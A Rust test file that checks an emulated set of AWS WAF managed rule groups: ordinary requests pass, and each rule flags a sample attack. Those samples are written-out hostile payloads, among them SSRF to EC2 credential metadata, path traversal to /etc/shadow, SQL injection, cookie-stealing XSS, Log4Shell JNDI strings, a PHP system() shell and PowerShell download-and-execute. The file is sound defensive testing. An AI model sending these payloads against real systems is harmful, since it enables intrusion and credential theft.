//! Each managed rule on an attack it is written for, and every group on ordinary traffic:
//! the groups run in `Count` so that every matching rule's label shows.

use serde_json::json;

use super::{find, groups};
use crate::engine::{compile::Refs, fields::Request, rate::RateCounters, WebAcl};

fn ordinary() -> Request {
    Request {
        method: "GET".into(),
        uri_path: "/".into(),
        query: String::new(),
        headers: vec![
            ("Host".into(), "shop.example.com".into()),
            (
                "User-Agent".into(),
                "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".into(),
            ),
            ("Accept".into(), "text/html,application/xhtml+xml".into()),
        ],
        body: Vec::new(),
        body_oversize: false,
        source_ip: "198.51.100.7".parse().ok(),
        token: Default::default(),
    }
}

fn get(path: &str, query: &str) -> Request {
    Request {
        uri_path: path.into(),
        query: query.into(),
        ..ordinary()
    }
}

fn post(body: &str) -> Request {
    Request {
        method: "POST".into(),
        uri_path: "/submit".into(),
        body: body.as_bytes().to_vec(),
        ..ordinary()
    }
}

fn with_header(mut r: Request, name: &str, value: &str) -> Request {
    r.headers.retain(|(k, _)| !k.eq_ignore_ascii_case(name));
    r.headers.push((name.into(), value.into()));
    r
}

/// The labels a group (in `Count`) adds to a request.
fn labels(group: &str, req: &Request) -> Vec<String> {
    let rules = vec![json!({
        "Name": "g", "Priority": 0, "OverrideAction": {"Count": {}},
        "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": group}},
        "VisibilityConfig": {}
    })];
    let acl = WebAcl::compile(
        "arn:acl",
        &rules,
        &json!({"Allow": {}}),
        &json!({}),
        &Refs::default(),
    )
    .unwrap();
    acl.evaluate(req, &RateCounters::default(), 0).labels
}

fn assert_caught(group: &str, rule: &str, req: Request) {
    let g = find("AWS", group).unwrap();
    let r = (g.rules)().into_iter().find(|r| r.name == rule).unwrap();
    let label = format!("{}{}", g.label_namespace(), r.label);
    let got = labels(group, &req);
    assert!(got.contains(&label), "{rule} missed {req:?}: {got:?}");
}

#[test]
fn groups_are_sorted_by_name() {
    let names: Vec<&str> = groups().iter().map(|g| g.name).collect();
    let mut sorted = names.clone();
    sorted.sort_unstable();
    assert_eq!(names, sorted);
}

#[test]
fn every_rule_compiles_within_its_groups_capacity() {
    for g in groups() {
        let mut total = 0;
        for r in (g.rules)() {
            let (_, wcu) = crate::engine::compile::compile(&r.statement, &Refs::default())
                .unwrap_or_else(|e| panic!("{} {}: {e:?}", g.name, r.name));
            total += wcu;
        }
        assert!(total <= g.capacity, "{}: {total} > {}", g.name, g.capacity);
    }
}

#[test]
fn ordinary_traffic_passes_every_group() {
    let requests = [
        ordinary(),
        get("/products/42", "color=blue&size=M&q=red+shoes"),
        get("/search", "q=O%27Reilly+books&page=2"),
        get("/docs/getting-started.html", "lang=en"),
        get("/api/v1/orders", "since=2024-01-01T00:00:00Z&limit=50"),
        get("/img/logo.png", "v=3"),
        get("/login", "next=https%3A%2F%2Fshop.example.com%2Faccount"),
        with_header(get("/", ""), "Cookie", "session=abc123; theme=dark; cart=3"),
        post("name=Jane+Doe&email=jane%40example.com&message=Hello%2C+I+would+like+a+refund."),
        post(
            r#"{"title":"Meeting notes","body":"We agreed to ship on Friday & review after.","tags":["a","b"]}"#,
        ),
    ];
    for g in groups() {
        for r in &requests {
            let got = labels(g.name, r);
            assert!(got.is_empty(), "{} flagged {r:?}: {got:?}", g.name);
        }
    }
}

#[test]
fn core_rule_set_rules_catch_their_attacks() {
    let crs = "AWSManagedRulesCommonRuleSet";
    let mut no_ua = ordinary();
    no_ua.headers.retain(|(k, _)| k != "User-Agent");
    assert_caught(crs, "NoUserAgent_HEADER", no_ua);
    assert_caught(
        crs,
        "UserAgent_BadBots_HEADER",
        with_header(ordinary(), "User-Agent", "Mozilla/5.00 (Nikto/2.1.6)"),
    );
    assert_caught(
        crs,
        "UserAgent_BadBots_HEADER",
        with_header(ordinary(), "User-Agent", "Nmap Scripting Engine"),
    );
    assert_caught(
        crs,
        "SizeRestrictions_QUERYSTRING",
        get("/", &format!("q={}", "a".repeat(2100))),
    );
    assert_caught(
        crs,
        "SizeRestrictions_Cookie_HEADER",
        with_header(ordinary(), "Cookie", &format!("big={}", "x".repeat(10300))),
    );
    let mut big = post("x");
    big.body_oversize = true;
    assert_caught(crs, "SizeRestrictions_BODY", big);
    assert_caught(
        crs,
        "SizeRestrictions_URIPATH",
        get(&format!("/{}", "p".repeat(1100)), ""),
    );
    assert_caught(
        crs,
        "EC2MetaDataSSRF_BODY",
        post("url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    );
    assert_caught(
        crs,
        "EC2MetaDataSSRF_COOKIE",
        with_header(
            ordinary(),
            "Cookie",
            "next=http%3A%2F%2F169.254.169.254%2Flatest",
        ),
    );
    assert_caught(
        crs,
        "EC2MetaDataSSRF_URIPATH",
        get("/fetch/http://169.254.169.254/latest/user-data", ""),
    );
    assert_caught(
        crs,
        "EC2MetaDataSSRF_QUERYARGUMENTS",
        get("/proxy", "url=http://2852039166/latest/meta-data/"),
    );
    assert_caught(
        crs,
        "GenericLFI_QUERYARGUMENTS",
        get("/view", "file=..%2F..%2F..%2Fetc%2Fpasswd"),
    );
    assert_caught(
        crs,
        "GenericLFI_URIPATH",
        get("/static/../../etc/passwd", ""),
    );
    assert_caught(
        crs,
        "GenericLFI_BODY",
        post("template=../../../../etc/shadow"),
    );
    assert_caught(
        crs,
        "RestrictedExtensions_URIPATH",
        get("/logs/debug.log", ""),
    );
    assert_caught(
        crs,
        "RestrictedExtensions_URIPATH",
        get("/config/app.ini", ""),
    );
    assert_caught(
        crs,
        "RestrictedExtensions_QUERYARGUMENTS",
        get("/download", "file=backup.sql"),
    );
    assert_caught(
        crs,
        "GenericRFI_QUERYARGUMENTS",
        get("/page", "include=http://203.0.113.9/shell.txt"),
    );
    assert_caught(
        crs,
        "GenericRFI_BODY",
        post("src=ftp%3A%2F%2F198.51.100.2%2Fpayload"),
    );
    assert_caught(
        crs,
        "GenericRFI_URIPATH",
        get("/load/https://192.0.2.1/x.php", ""),
    );
    assert_caught(
        crs,
        "CrossSiteScripting_COOKIE",
        with_header(
            ordinary(),
            "Cookie",
            "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ),
    );
    assert_caught(
        crs,
        "CrossSiteScripting_QUERYARGUMENTS",
        get("/search", "q=<script>alert(\"hello\")</script>"),
    );
    assert_caught(
        crs,
        "CrossSiteScripting_BODY",
        post("comment=<img src=x onerror=alert(document.cookie)>"),
    );
    assert_caught(
        crs,
        "CrossSiteScripting_URIPATH",
        get("/p/%3Csvg%2Fonload%3Dalert(1)%3E", ""),
    );
}

#[test]
fn sql_database_rules_catch_their_attacks() {
    let g = "AWSManagedRulesSQLiRuleSet";
    assert_caught(
        g,
        "SQLi_QUERYARGUMENTS",
        get("/item", "id=1%27%20OR%20%271%27%3D%271"),
    );
    assert_caught(
        g,
        "SQLiExtendedPatterns_QUERYARGUMENTS",
        get("/item", "id=1%20AND%20SLEEP(5)"),
    );
    assert_caught(
        g,
        "SQLi_BODY",
        post("username=admin' OR '1'='1' --&password=x"),
    );
    assert_caught(
        g,
        "SQLiExtendedPatterns_BODY",
        post("q=select+table_name+from+information_schema.tables"),
    );
    assert_caught(
        g,
        "SQLi_COOKIE",
        with_header(
            ordinary(),
            "Cookie",
            "uid=1%20UNION%20SELECT%20password%20FROM%20users",
        ),
    );
    assert_caught(g, "SQLi_URIPATH", get("/items/1'%20OR%201=1--", ""));
}

#[test]
fn known_bad_inputs_rules_catch_their_attacks() {
    let g = "AWSManagedRulesKnownBadInputsRuleSet";
    let java = "(java.lang.Runtime).getRuntime().exec(\"whoami\")";
    assert_caught(
        g,
        "JavaDeserializationRCE_HEADER",
        with_header(
            ordinary(),
            "spring.cloud.function.routing-expression",
            "T(java.lang.Runtime).getRuntime().exec(\"id\")",
        ),
    );
    assert_caught(g, "JavaDeserializationRCE_BODY", post(java));
    assert_caught(
        g,
        "JavaDeserializationRCE_BODY",
        post("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    );
    assert_caught(
        g,
        "JavaDeserializationRCE_URIPATH",
        get("/run/java.lang.Runtime", ""),
    );
    assert_caught(
        g,
        "JavaDeserializationRCE_QUERYSTRING",
        get("/", "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
    );
    assert_caught(
        g,
        "Host_localhost_HEADER",
        with_header(ordinary(), "Host", "localhost:8080"),
    );
    let mut propfind = ordinary();
    propfind.method = "PROPFIND".into();
    assert_caught(g, "PROPFIND_METHOD", propfind);
    assert_caught(
        g,
        "ExploitablePaths_URIPATH",
        get("/app/WEB-INF/web.xml", ""),
    );
    assert_caught(g, "ExploitablePaths_URIPATH", get("/.git/config", ""));
    assert_caught(
        g,
        "Log4JRCE_HEADER",
        with_header(ordinary(), "X-Api-Version", "${jndi:ldap://example.com/a}"),
    );
    assert_caught(
        g,
        "Log4JRCE_QUERYSTRING",
        get(
            "/",
            "q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fx%7D",
        ),
    );
    assert_caught(g, "Log4JRCE_BODY", post("name=${jndi:rmi://example.com/x}"));
    assert_caught(
        g,
        "Log4JRCE_URIPATH",
        get("/%24%7Bjndi:dns://example.com/a%7D", ""),
    );
}

#[test]
fn admin_linux_unix_and_php_rules_catch_their_attacks() {
    let admin = "AWSManagedRulesAdminProtectionRuleSet";
    assert_caught(admin, "AdminProtection_URIPATH", get("/admin/users", ""));
    assert_caught(admin, "AdminProtection_URIPATH", get("/sqlmanager/", ""));
    let linux = "AWSManagedRulesLinuxRuleSet";
    assert_caught(linux, "LFI_URIPATH", get("/download/proc/version", ""));
    assert_caught(linux, "LFI_QUERYSTRING", get("/view", "f=/etc/passwd"));
    assert_caught(
        linux,
        "LFI_HEADER",
        with_header(ordinary(), "Referer", "file:///proc/self/environ"),
    );
    let unix = "AWSManagedRulesUnixRuleSet";
    assert_caught(
        unix,
        "UNIXShellCommandsVariables_QUERYARGUMENTS",
        get("/ping", "host=127.0.0.1%3Becho%20%24HOME"),
    );
    assert_caught(
        unix,
        "UNIXShellCommandsVariables_BODY",
        post("cmd=x && cat /etc/hosts"),
    );
    assert_caught(
        unix,
        "UNIXShellCommandsVariables_BODY",
        post("name=$(whoami)"),
    );
    let php = "AWSManagedRulesPHPRuleSet";
    assert_caught(
        php,
        "PHPHighRiskMethodsVariables_HEADER",
        with_header(
            ordinary(),
            "X-Forwarded-Host",
            "<?php system($_GET['c']); ?>",
        ),
    );
    assert_caught(
        php,
        "PHPHighRiskMethodsVariables_QUERYSTRING",
        get("/", "x=fsockopen(%22evil%22,80)"),
    );
    assert_caught(
        php,
        "PHPHighRiskMethodsVariables_BODY",
        post("data=php://input"),
    );
}

#[test]
fn windows_and_wordpress_rules_catch_their_attacks() {
    let win = "AWSManagedRulesWindowsRuleSet";
    assert_caught(
        win,
        "WindowsShellCommands_COOKIE",
        with_header(ordinary(), "Cookie", "host=x%7C%7Cnslookup%20evil.example"),
    );
    assert_caught(
        win,
        "WindowsShellCommands_QUERYARGUMENTS",
        get("/ping", "ip=127.0.0.1;cmd%20/c%20dir"),
    );
    assert_caught(win, "WindowsShellCommands_BODY", post("target=x && whoami"));
    assert_caught(
        win,
        "PowerShellCommands_COOKIE",
        with_header(ordinary(), "Cookie", "p=Invoke-Expression%20$x"),
    );
    assert_caught(
        win,
        "PowerShellCommands_QUERYARGUMENTS",
        get(
            "/",
            "c=IEX(New-Object%20Net.WebClient).DownloadString('http://x')",
        ),
    );
    assert_caught(
        win,
        "PowerShellCommands_BODY",
        post("cmd=powershell -EncodedCommand SQBFAFgA"),
    );
    let wp = "AWSManagedRulesWordPressRuleSet";
    assert_caught(
        wp,
        "WordPressExploitableCommands_QUERYSTRING",
        get(
            "/wp-admin/admin.php",
            "page=wordpress-reset&action=do-reset-wordpress",
        ),
    );
    assert_caught(
        wp,
        "WordPressExploitablePaths_URIPATH",
        get("/xmlrpc.php", ""),
    );
    assert_caught(
        wp,
        "WordPressExploitablePaths_URIPATH",
        get("/blog/wp-config.php", ""),
    );
}

#[test]
fn rules_whose_examples_are_near_ordinary_text_do_not_overreach() {
    let crs = "AWSManagedRulesCommonRuleSet";
    for r in [
        get("/admin-guide.html", ""),
        get("/", "next=https://example.com/path"),
        get("/a/b/c", "path=docs/readme"),
        get("/catalog.json", ""),
        post("note=see ../README for details"),
    ] {
        assert!(labels(crs, &r).is_empty(), "flagged {r:?}");
    }
    assert!(labels(
        "AWSManagedRulesKnownBadInputsRuleSet",
        &with_header(ordinary(), "Host", "localhost.example.com")
    )
    .is_empty());
    assert!(labels("AWSManagedRulesUnixRuleSet", &post("price=$5 & tax=$1")).is_empty());
    assert!(labels(
        "AWSManagedRulesAdminProtectionRuleSet",
        &get("/administration-guide", "")
    )
    .is_empty());
}
